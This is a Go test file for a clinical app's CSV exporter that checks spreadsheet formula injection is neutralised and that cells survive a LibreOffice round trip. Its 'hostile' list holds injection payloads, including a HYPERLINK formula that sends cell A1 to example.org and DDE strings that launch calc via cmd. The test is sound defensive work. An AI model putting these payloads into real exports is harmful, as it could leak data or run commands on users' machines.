package csvlog

import (
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"neurocheck/internal/icans"
	"neurocheck/internal/ward"
)

// hostile are texts that a spreadsheet would run, or read as something else.
var hostile = []string{
	`=HYPERLINK("http://example.org?"&A1,"click")`, `=1+1`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1`, `-1`, `-2+3+cmd|' /C calc'!A0`,
	`＝1+1`, `="0042317"`, `'tis`, `''`, `'=1`, `"quoted"`, `""`, "two\nlines", "a\ttab", "tab\tand\nline", `a,b;c`, `x;=1+1`,
	`007`, `1E5`, `1-2`, `3/4`, `12:30`, `1:30 PM`, `May 4`, `mar-12`, `4 мая`, `५`, `12 %`, `€5`, `(5)`, `1,000`, `0x10`, `1 1/2`,
	`TRUE`, `false`, `true`, `2024-05-06`, `2024-05-06T08:00:00Z`, `06/05/24`,
	`مرحبا 12`, `שלום`, `😀 well`, `é`, `佐藤, 花子`, `12A`, `2 doses of dexamethasone given, and the fever went down`,
	strings.Repeat("7", 300), strings.Repeat("long ", 300), `a  b   c`, `<b>&amp;`, `\n`, `#REF!`, `N/A`, `.5`, `°`,
}

func TestDisarmedTextsRunNothingAndComeBack(t *testing.T) {
	check := func(t interface{ Errorf(string, ...any) }, s string) {
		safe := disarm(s)
		shown := safe // by the spreadsheet
		if inner, held := strings.CutPrefix(safe, `="`); held {
			shown = strings.ReplaceAll(strings.TrimSuffix(inner, `"`), `""`, `"`)
			if quotes := strings.Count(inner, `"`); quotes%2 != 1 || len(safe) > 3*mostHeld {
				t.Errorf("%q is no formula of one text", safe)
			}
			if shown != s {
				t.Errorf("%q shows %q", s, shown)
			}
		} else if safe != "" && strings.ContainsRune("=+-@\t\r", []rune(safe)[0]) {
			t.Errorf("%q leaves as %q, which runs", s, safe)
		}
		if got := undisarm(safe); got != s {
			t.Errorf("%q left as %q and came back as %q", s, safe, got)
		}
		if got := undisarm(shown); got != s {
			t.Errorf("%q was saved by a spreadsheet as %q and came back as %q", s, shown, got)
		}
	}
	for _, s := range hostile {
		check(t, s)
	}
	rapid.Check(t, func(t *rapid.T) {
		check(t, rapid.StringOf(rapid.RuneFrom([]rune(`='"+-@07 .a`))).Draw(t, "text"))
	})
}

// Words that no spreadsheet mistakes stay as they are; figures are held.
func TestSpreadsheetLeavesTheRestAlone(t *testing.T) {
	for _, s := range []string{"", "OKAFOR, Ada", "axi-cel", "csv-0123456789abcdef", "week-a1", "N. Reis", "Given 2 doses"} {
		if got := disarm(s); got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
	for _, s := range []string{"0042317", "1E5", "3-4", "12A", "12:30", "May 4", "TRUE", "२०"} {
		if got := disarm(s); got != `="`+s+`"` {
			t.Errorf("%q is not held: %q", s, got)
		}
	}
	var file strings.Builder
	if _, err := (Profile{}).Spreadsheet().Export(t.Context(), &file, each(1)); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(file.String(), "\ufeffcheck_id,") || strings.Count(file.String(), "\r\n") != 2 || strings.Count(file.String(), "\n") != 2 {
		t.Errorf("no byte order mark or no CRLF:\n%q", file.String())
	}
	if !strings.Contains(file.String(), `,"=""01""",,"Okafor, Ada",`) {
		t.Errorf("the MRN is not held:\n%s", file.String())
	}
}

// A row without the mark stays as it was written, whatever its texts begin with.
func TestTextsAreUndoneOnlyWhereTheRowSaysSo(t *testing.T) {
	const input = "mrn,name,birth_date,performed_at,tool,note,profile\r\n" +
		"\"=\"\"0042\"\"\",'-x,1961-03-14,2024-05-06T08:00:00Z,ice,'-1,spreadsheet\r\n" +
		"0043,'-x,1961-03-14,2024-05-06T08:00:00Z,ice,'-1,\r\n"
	f := read(t, input)
	var got []string
	for in := range f.Rows() {
		got = append(got, in.Patient.MRN, in.Patient.Name, in.Check.Note)
	}
	want := []string{"0042", "-x", "-1", "0043", "'-x", "'-1"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	const bad = "mrn,performed_at,tool,profile\n1,2024-05-06T08:00:00Z,ice,other\n"
	if got := lines(wrong(read(t, bad))); !strings.Contains(got, "profile: not allowed here") {
		t.Errorf("a mark that nobody knows: %s", got)
	}
	output, problems, _ := grade(t, "check_id,tool,profile\n\"=\"\"007\"\"\",ice,spreadsheet\n", false)
	if !strings.Contains(output, "\n007,") {
		t.Errorf("grade: %s%s", output, problems)
	}
}

// hostileLog yields a check for each hostile text, in every column of free text.
func hostileLog(yield func(*ward.Patient, *ward.Stay, *ward.Check) error) error {
	mrns := []string{"0042317", "1E5", "007-1", "=1+1", "3-4"}
	for i, s := range hostile {
		line := func(most int) string {
			r := []rune(ward.CleanLine(s))
			for len(string(r)) > most {
				r = r[:len(r)-1]
			}
			return string(r)
		}
		p := ward.Patient{
			MRN: mrns[i%len(mrns)] + strings.Repeat("0", i/len(mrns)), Name: line(120), BirthDate: ward.Date{Year: 1961, Month: 3, Day: 14}, Tool: icans.ICE,
			SecondID: line(40), Product: line(60), Language: line(40), Baseline: icans.Scored(10), BaselineLost: 1 << icans.ICEWriting, Health: 1 << icans.Memory,
		}
		stay := ward.Stay{AdmittedAt: start, Bed: "12A", Visit: line(40), Clinician: line(60)}
		c := ward.Check{
			ID: fmt.Sprint("00", i), Version: 2, Status: ward.Corrected, Reason: "other", ReasonNote: line(200),
			PerformedAt: start.Add(time.Duration(i) * time.Hour), Note: ward.CleanText(s),
			Recorded: ward.Signature{By: line(60), At: start.Add(time.Duration(i)*time.Hour + 250*time.Millisecond)},
			Findings: icans.Findings{Tool: icans.ICE, Consciousness: icans.Alert},
		}
		icans.FieldOf("icp").Set(&c.Findings, "posturing;cn6_palsy")
		icans.FieldOf("ice_naming").Set(&c.Findings, "3")
		icans.FieldOf("crs_grade").Set(&c.Findings, "2")
		if c.CauseNote = line(200); c.CauseNote != "" {
			icans.FieldOf("other_cause").Set(&c.Findings, "consciousness")
		}
		p.Clean()
		stay.Clean()
		c.Clean()
		c.Grade(0)
		if err := yield(&p, &stay, &c); err != nil {
			return err
		}
	}
	return nil
}

// LibreOffice opens the file, and every cell is the text, the number or the date
// that it is in the log; saved as CSV again, it comes in as it left.
func TestLibreOfficeReadsEveryCell(t *testing.T) {
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("this machine has no soffice (Debian: libreoffice-calc-nogui)")
	}
	folder := t.TempDir()
	path := filepath.Join(folder, "checks.csv")
	if _, err := (Profile{}).Spreadsheet().ExportFile(t.Context(), path, hostileLog, ExportOptions{}); err != nil {
		t.Fatal(err)
	}
	convert := func(format string) string {
		t.Helper()
		// UTF-8 and commas, and, unlike by default, everything that looks like a
		// number or a date taken for one.
		run := exec.CommandContext(t.Context(), office, "--headless", "-env:UserInstallation=file://"+filepath.Join(folder, "profile"),
			"--infilter=CSV:44,34,76,1,,0,false,true", "--convert-to", format, "--outdir", filepath.Join(folder, "out"), path)
		run.Env = append(os.Environ(), "HOME="+folder)
		if output, err := run.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, output)
		}
		format, _, _ = strings.Cut(format, ":")
		data, err := os.ReadFile(filepath.Join(folder, "out", "checks."+format))
		if err != nil {
			t.Fatal(err)
		}
		return string(data)
	}

	var plain strings.Builder
	if _, err := (Profile{}).Export(t.Context(), &plain, hostileLog); err != nil {
		t.Fatal(err)
	}
	want, err := csv.NewReader(strings.NewReader(plain.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := sheet(t, convert("fods"))
	if len(got) != len(want) {
		t.Fatalf("%d rows, not %d", len(got), len(want))
	}
	cells := 0
	for i, row := range want {
		for j, text := range row {
			kind := "string"
			switch c := columns[j]; {
			case text == "":
				kind = ""
			case i == 0:
			case c.Type == "integer" || c.Type == "boolean" || c.finding != nil && len(text) == 1:
				kind = "float"
			case c.Type == "date":
				kind = "date"
			case c.text != nil && runs(text), c.text != nil && len(text) > mostHeld && mistakable(text):
				text = "'" + text
			}
			if strings.Contains(text, "\n") {
				text = strings.ReplaceAll(text, "\t", "") // lost in writing OpenDocument, not in reading: the CSV below has it
			}
			var cell sheetCell
			if j < len(got[i]) {
				cell = got[i][j]
			}
			if cell != (sheetCell{kind, text}) {
				t.Errorf("row %d, %s: %q is %q as %q", i+1, columns[j].Name, row[j], cell.text, cell.kind)
			}
			cells++
		}
		if mark := got[i][len(row)].text; mark != spreadsheet && mark != profileMark.Name {
			t.Errorf("row %d is marked %q", i+1, mark)
		}
	}
	t.Logf("compared %d cells", cells)

	// Text in UTF-8, the cells as they are shown.
	saved := read(t, convert("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false"))
	original := read(t, plain.String())
	if found := append(wrong(original), wrong(saved)...); len(found) > 0 {
		t.Fatal(lines(found))
	}
	rows := func(f *Import) (list []ward.ImportRow) {
		for in := range f.Rows() {
			in.Line = 0
			list = append(list, in)
		}
		return list
	}
	if diff := cmp.Diff(rows(original), rows(saved), cmp.Comparer(sameTime)); diff != "" {
		t.Errorf("saved by the spreadsheet (-left +came back)\n%s", diff)
	}
}

// sheetCell is a cell of a spreadsheet: "string", "float" or "date".
type sheetCell struct{ kind, text string }

// sheet reads the cells of a flat OpenDocument spreadsheet.
func sheet(t *testing.T, document string) (rows [][]sheetCell) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(document))
	var row []sheetCell
	var text []string // of a cell, by paragraph
	var kind, value string
	repeated := 1
	in := false
	for {
		token, err := d.Token()
		if err == io.EOF {
			return rows
		}
		if err != nil {
			t.Fatal(err)
		}
		add := func(s string) {
			if in && len(text) > 0 {
				text[len(text)-1] += s
			}
		}
		switch e := token.(type) {
		case xml.StartElement:
			attribute := func(name string) string {
				i := slices.IndexFunc(e.Attr, func(a xml.Attr) bool { return a.Name.Local == name && !strings.Contains(a.Name.Space, "calc") })
				if i < 0 {
					return ""
				}
				return e.Attr[i].Value
			}
			number := func(name string) int { return max(1, atoi(attribute(name))) }
			switch e.Name.Local {
			case "table-row":
				row = nil
			case "table-cell":
				in, text, repeated = true, nil, number("number-columns-repeated")
				kind, value = attribute("value-type"), ""
				switch kind {
				case "float":
					value = attribute("value")
				case "date":
					value = attribute("date-value")
				}
			case "p":
				text = append(text, "")
			case "s":
				add(strings.Repeat(" ", number("c")))
			case "tab":
				add("\t")
			case "line-break":
				add("\n")
			}
		case xml.CharData:
			add(string(e))
		case xml.EndElement:
			switch e.Name.Local {
			case "table-cell":
				in = false
				if kind == "string" {
					value = strings.TrimRight(strings.Join(text, "\n"), "\n ")
				}
				for range min(repeated, 2*len(columns)) {
					row = append(row, sheetCell{kind, value})
				}
			case "table-row":
				if slices.ContainsFunc(row, func(c sheetCell) bool { return c.kind != "" }) {
					rows = append(rows, row)
				}
			}
		}
	}
}

func atoi(s string) int {
	n, _ := strconv.Atoi(s) // none is 0
	return n
}
